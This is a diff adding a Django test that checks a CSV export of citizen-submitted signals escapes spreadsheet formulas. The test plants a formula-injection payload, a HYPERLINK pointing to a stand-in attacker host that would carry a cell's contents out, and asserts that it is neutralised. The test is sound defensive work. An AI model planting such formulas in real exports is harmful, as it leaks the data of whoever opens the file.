@@ -73,6 +73,23 @@ def test_exports_stream_without_personal_data(client, data):
 
 
 @pytest.mark.django_db
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(client, data):
+    from duluan.apps.intake.models import Signal
+
+    # given a signal whose title a citizen wrote as a spreadsheet formula
+    signal = Signal.objects.filter(issue=data["merger"]).first()
+    signal.title = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+    signal.save(update_fields=["title"])
+    client.force_login(data["phantich"])
+    # when the signals are exported as CSV
+    response = client.get("/issues/export.csv", {"topic": "reorganisation"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    # then that cell opens with an apostrophe, and no cell opens with what starts a formula
+    assert any(cell == "'" + signal.title for row in rows for cell in row)
+    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows[1:] for cell in row)
+
+
+@pytest.mark.django_db
 def test_weekly_brief_is_a_state_format_docx(client, data):
     client.force_login(data["dieuphoi"])
     response = client.get("/issues/brief/", {"from": "2026-01-01", "to": "2026-12-31"})
